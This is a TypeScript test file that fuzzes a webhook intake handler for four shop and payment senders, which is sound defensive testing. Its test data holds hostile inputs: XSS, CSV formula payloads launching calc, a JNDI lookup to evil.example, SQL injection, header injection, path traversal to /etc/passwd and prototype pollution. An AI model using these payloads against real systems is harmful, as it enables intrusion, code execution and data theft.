/**
 * Bodies of 10 MB, a million levels deep, with 100,000 keys, `__proto__`, CR/LF/NUL, XSS, formulas, invalid UTF-8, lone
 * surrogates, huge numbers, negative dates, duplicate keys: refused with a clear 4xx or inert; nothing stored, never a 5xx.
 *
 * For each of the four kinds of senders, properly signed, through the real handler.
 */

import { createHmac } from "node:crypto";
import { readFileSync } from "node:fs";
import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Event } from "#engine/model/event.ts";
import { parseEvent } from "#webhooks/canonical/canonical-event.ts";
import { exportHtml } from "../../../bin/people/export-html.ts";
import { intake, NOW, ORDER_PAID, SETTINGS } from "../../webhooks/intake.ts";

type Kind = {
  source: string;
  /** A body that is taken in, with `name` in a text of a person's and `total` as an amount, both as JSON. */
  genuine(name: string, total?: string): string;
  sign(body: Uint8Array): Record<string, string>;
};

const hmac = (key: string | Uint8Array, encoding: "base64" | "hex", ...parts: (string | Uint8Array)[]): string => {
  const made = createHmac("sha256", key);
  for (const part of parts) made.update(part);
  return made.digest(encoding);
};
const seconds = String(NOW / 1000);
const file = (name: string): string => readFileSync(new URL(`../../webhooks/${name}`, import.meta.url), "utf8");
/** Puts raw JSON where a text stood, so that what a serializer would never write can be sent. */
const placed = (text: string, marks: [mark: string, json: string][]): string =>
  marks.reduce((all, [mark, json]) => all.replaceAll(`"${mark}"`, json), text);

// Over bytes, which the senders' own libraries do not take: what is no text must be signed too.
const KINDS: Kind[] = [
  {
    source: "till",
    genuine: (name, total = "129.9") =>
      placed(
        JSON.stringify({
          ...ORDER_PAID,
          customer: { ...ORDER_PAID.customer, first_name: "@name" },
          order: { ...ORDER_PAID.order, total: "@total" },
        }),
        [
          ["@name", name],
          ["@total", total],
        ],
      ),
    sign: (body) => {
      const key = Buffer.from("bG9jYWwtb25seS1zZWNyZXQtMDAwMDAwMDAwMDA=", "base64");
      const signature = hmac(key, "base64", `msg_1.${seconds}.`, body);
      return { "webhook-id": "msg_1", "webhook-timestamp": seconds, "webhook-signature": `v1,${signature}` };
    },
  },
  {
    source: "shop",
    genuine: (name, total = '"398.00"') => {
      const order = JSON.parse(file("shopify-order.json"));
      const changed = { ...order, customer: { ...order.customer, first_name: "@name" }, total_price: "@total" };
      return placed(JSON.stringify(changed), [
        ["@name", name],
        ["@total", total],
      ]);
    },
    sign: (body) => ({
      "x-shopify-topic": "orders/create",
      "x-shopify-hmac-sha256": hmac("a-secret-of-the-shop-for-tests", "base64", body),
    }),
  },
  {
    source: "woo",
    genuine: (name, total = '"29.35"') => {
      const order = JSON.parse(file("woocommerce-order.json"));
      const changed = { ...order, billing: { ...order.billing, first_name: "@name" }, total: "@total" };
      return placed(JSON.stringify(changed), [
        ["@name", name],
        ["@total", total],
      ]);
    },
    sign: (body) => ({
      "x-wc-webhook-topic": "order.updated",
      "x-wc-webhook-signature": hmac("a-secret-of-the-shop-for-tests", "base64", body),
    }),
  },
  {
    source: "pay",
    genuine: (name, total = "12990") =>
      placed(
        JSON.stringify({
          id: "evt_1",
          object: "event",
          type: "checkout.session.completed",
          created: NOW / 1000,
          data: {
            object: {
              id: "cs_1",
              object: "checkout.session",
              payment_intent: "pi_1",
              payment_status: "paid",
              currency: "pln",
              amount_total: "@total",
              customer_details: { email: "zofia@example.pl", individual_name: "@name" },
            },
          },
        }),
        [
          ["@name", name],
          ["@total", total],
        ],
      ),
    sign: (body) => ({
      "stripe-signature": `t=${seconds},v1=${hmac("whsec_a-secret-of-the-till-for-tests", "hex", `${seconds}.`, body)}`,
    }),
  },
];

const bytes = (body: string | Uint8Array): Uint8Array => (typeof body === "string" ? Buffer.from(body, "utf8") : body);
const send = async ({ source, sign }: Kind, body: string | Uint8Array, more: Record<string, string> = {}) => {
  const at = intake();
  const answer = await at.post(source, bytes(body), { ...sign(bytes(body)), ...more });
  return { ...answer, events: at.stored, lines: at.lines };
};

/** Everything that could end a header, hide in a log line, or not survive being stored. */
const UNPRINTABLE = /[\p{Cc}\p{Zl}\p{Zp}\p{Surrogate}]/u;
const textsIn = (value: unknown): string[] => {
  if (typeof value === "string") return [value];
  return typeof value === "object" && value !== null
    ? Object.entries(value).flatMap(([key, inner]) => [key, ...textsIn(inner)])
    : [];
};
/** What is stored is what the canonical schema lets in, and nothing of it could do harm where it is used. */
const expectInert = (events: Event[]): void => {
  for (const event of events) {
    const { source: _source, ...stated } = event;
    const { fields, ...customer } = event.customer;
    // Set by us, and by nobody who sends.
    const { guest: _guest, ...sent } = customer;
    expect(parseEvent({ ...stated, customer: { ...sent, ...fields } }, SETTINGS, { strict: true })).toHaveProperty("event");
    expect(textsIn(event).filter((text) => UNPRINTABLE.test(text))).toEqual([]);
  }
  expect(Reflect.get({}, "polluted")).toBeUndefined();
};

describe("markup in received fields", () => {
  it("is inert in the page on which they read what is held of them", () => {
    const evil = `<script>alert(1)</script>"'><img src=x onerror=alert(1)>`;
    const profile = { email: evil, fields: { [evil]: evil }, tags: [evil] };
    const held = {
      at: evil,
      profiles: [{ customer: evil, rows: { profile: [profile], [evil]: [profile] } }],
      addresses: [],
      messages: [],
      quarantinedEvents: [],
      waitingSignUps: [],
    };
    const page = exportHtml(evil, held);
    expect(page).not.toMatch(/<script|<img|onerror=alert\(1\)>/);
    expect(page).toContain("&lt;script&gt;");
    expect(page).toContain("default-src 'none'");
  });
});

describe.each(KINDS.map((kind) => [kind.source, kind] as const))("at %s", (_, kind) => {
  const refused = async (body: string | Uint8Array, statuses: number[]): Promise<void> => {
    const answer = await send(kind, body);
    expect(statuses).toContain(answer.status);
    expect(answer.problems?.length).toBeGreaterThan(0);
    expect(answer.problems?.length).toBeLessThan(25);
    expect(answer.events).toEqual([]);
  };

  it("what is genuine is taken in, so that the rest of this proves something", async () => {
    const { status, events } = await send(kind, kind.genuine('"Zofia"'));
    expect(status).toBe(202);
    expect(events.length).toBeGreaterThan(0);
    expect(textsIn(events)).toContain("Zofia");
  });

  it("10 MB are refused, also when no length is named and when it lies", async () => {
    const body = Buffer.alloc(10_000_000, " ");
    body.write(kind.genuine('"Zofia"'));
    await refused(body, [413]);
    expect((await send(kind, body, { "content-length": "12" })).status).toBe(413);
    const endless = new ReadableStream({ pull: (stream) => stream.enqueue(new Uint8Array(100_000)) });
    const request = new Request(`http://local/webhooks/${kind.source}`, {
      method: "POST",
      body: endless,
      duplex: "half",
    } as RequestInit);
    expect((await intake().app.request(request)).status).toBe(413);
  });

  it.each([
    ["a million levels", "[".repeat(1_000_000)],
    ["levels of objects up to the limit of size", '{"a":'.repeat(190_000)],
    ["levels within a genuine body", undefined],
    ["100,000 keys", `{${Array.from({ length: 70_000 }, (_, n) => `"${n}":1`).join()}}`],
  ])("%s are refused", async (_, body) => {
    await refused(body ?? kind.genuine(`${"[".repeat(5_000)}${"]".repeat(5_000)}`), [400]);
  });

  it.each(['{"__proto__":{"polluted":1}}', '{"\\u005f\\u005fproto__":{"polluted":1}}'])(
    "a prototype is refused: %s",
    async (json) => {
      await refused(kind.genuine(json), [400]);
      await refused(json, [400]);
    },
  );

  it.each(['{"constructor":{"prototype":{"polluted":1}}}', '{"toString":1,"hasOwnProperty":1,"length":-1}'])(
    "keys that objects have by nature change nothing: %s",
    async (json) => {
      for (const body of [json, kind.genuine(json), kind.genuine('"Zofia"').replace("{", `{"constructor":${json},`)]) {
        const { status, events } = await send(kind, body);
        expect([202, 400, 422]).toContain(status);
        expectInert(events);
      }
    },
  );

  it.each([
    ["a header", '"Zofia\\r\\nBcc: everybody@example.com"'],
    ["a NUL", '"Zo\\u0000fia"'],
    ["a line separator", '"Zo\\u2028fia\\u2029"'],
    ["an escape of the terminal", '"\\u001b[2JZofia"'],
    ["half a surrogate", '"Zofia\\ud83d"'],
    ["the other half first", '"\\udc00Zofia\\ud83d"'],
  ])("%s in a name is refused or taken out", async (_, name) => {
    const { status, events, lines } = await send(kind, kind.genuine(name));
    expect([202, 422]).toContain(status);
    expect(status === 422 ? events : []).toEqual([]);
    expectInert(events);
    expect(lines.join("")).not.toMatch(/Bcc|Zofia/);
  });

  it.each([
    "<script>alert(1)</script>",
    '\\"><img src=x onerror=alert(1)>',
    "{{ customer.email }}{% for a in (1..1000000000) %}x{% endfor %}",
    '=HYPERLINK(\\"https://evil.example\\",\\"pay\\")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE customers; --",
    `\${jndi:ldap://evil.example/a}`,
    "../../../../etc/passwd",
  ])("%s is a name like any other: kept as it is, to be escaped where it is shown", async (name) => {
    const { status, events } = await send(kind, kind.genuine(`"Anna ${name}"`));
    expect(status).toBe(202);
    expect(events.length).toBeGreaterThan(0);
    expectInert(events);
  });

  it.each([
    "1e999",
    "-1e999",
    "1e308",
    "123456789012345678901234567890",
    "-0",
    "0.1e-400",
    '"NaN"',
    '"1e999"',
    "null",
    "[]",
    "{}",
  ])("the amount %s is refused or left out", async (total) => {
    const { status, events } = await send(kind, kind.genuine('"Zofia"', total));
    expect([202, 400, 422]).toContain(status);
    expectInert(events);
    for (const { order } of events) expect(Math.abs(order?.total ?? 0)).toBeLessThanOrEqual(1e12);
  });

  it.each([
    '"-271821-04-20T00:00:00Z"',
    '"-0001-01-01"',
    '"275760-09-13T00:00:00Z"',
    '"9999-99-99T99:99:99Z"',
    "-62135596800",
    "1e20",
    '"Infinity"',
  ])("the time %s is refused or left out, and never crashes what reckons with it", async (time) => {
    const genuine = kind.genuine('"Zofia"');
    const times =
      /"(at|placed_at|created|created_at|processed_at|updated_at|date_created_gmt|date_modified_gmt|date_paid_gmt|date_completed_gmt)":\s*(?:"[^"]*"|\d+|null)/g;
    const body = genuine.replace(times, (_, key: string) => `"${key}":${time}`);
    expect(body).not.toBe(genuine);
    const { status, events } = await send(kind, body);
    expect([202, 400, 422]).toContain(status);
    expectInert(events);
    for (const { at } of events) expect(Number.isNaN(Date.parse(at))).toBe(false);
  });

  it("of a key that comes twice the last counts, for us as for every reader after us", async () => {
    const genuine = kind.genuine('"Zofia"');
    for (const twice of [
      genuine.replace(/"email":/, '"email":{"a":[1]},"email":'),
      genuine.replace("{", '{"id":{"x":1},"type":7,'),
    ]) {
      const { status, events } = await send(kind, twice);
      expect([202, 400, 422]).toContain(status);
      expectInert(events);
    }
  });

  it.each([
    ["a byte that is none of UTF-8", [0xff]],
    ["an overlong slash", [0xc0, 0xaf]],
    ["a surrogate in bytes", [0xed, 0xa0, 0x80]],
    ["half a letter", [0xc5]],
  ])("%s is refused", async (_, wrong) => {
    const [before, after] = kind.genuine('"@@"').split("@@");
    await refused(Buffer.concat([Buffer.from(before ?? ""), Buffer.from(wrong), Buffer.from(after ?? "")]), [400]);
  });

  it.each([
    ["nothing", ""],
    ["a number", "7"],
    ["null", "null"],
    ["text", '"order"'],
    ["a list", "[]"],
    ["half", '{"id":'],
    ["two", "{}{}"],
    ["comments", "/**/{}"],
    ["a mark of byte order twice", "\ufeff\ufeff{}"],
  ])("%s is refused", async (_, body) => refused(body, [400, 422]));

  it("whatever bytes are signed: never a 5xx, and nothing is stored that is not valid", async () => {
    const genuine = kind.genuine('"Zofia"');
    const mutated = fc
      .tuple(
        fc.nat(genuine.length),
        fc.nat(20),
        fc.oneof(fc.string({ unit: "binary" }), fc.json(), fc.constantFrom('"', "\\", "{", "\u0000")),
      )
      .map(([place, gone, put]) => genuine.slice(0, place) + put + genuine.slice(place + gone));
    const body = fc.oneof(
      fc.uint8Array({ maxLength: 300 }).map((array) => Buffer.from(array)),
      fc.json().map(bytes),
      mutated.map(bytes),
      fc.json().map((json) => bytes(kind.genuine(json))),
      fc.json().map((json) => bytes(kind.genuine('"Zofia"', json))),
    );
    await fc.assert(
      fc.asyncProperty(body, async (sent) => {
        const { status, events, problems } = await send(kind, sent);
        expect([200, 202, 400, 413, 422]).toContain(status);
        expect(problems === undefined ? [] : events).toEqual([]);
        expectInert(events);
      }),
      { numRuns: 400 },
    );
  });

  it("whatever the headers hold: never a 5xx, and nothing is stored", async () => {
    const headers = fc.dictionary(
      fc.constantFrom(...Object.keys(kind.sign(bytes("{}")))),
      fc.string({ unit: fc.integer({ min: 0x20, max: 0xff }).map((code) => String.fromCharCode(code)), maxLength: 80 }),
    );
    const body = kind.genuine('"Zofia"');
    await fc.assert(
      fc.asyncProperty(headers, async (given) => {
        const at = intake();
        expect((await at.post(kind.source, bytes(body), given)).status).toBe(401);
        expect(at.stored).toEqual([]);
      }),
      { numRuns: 100 },
    );
  });
});
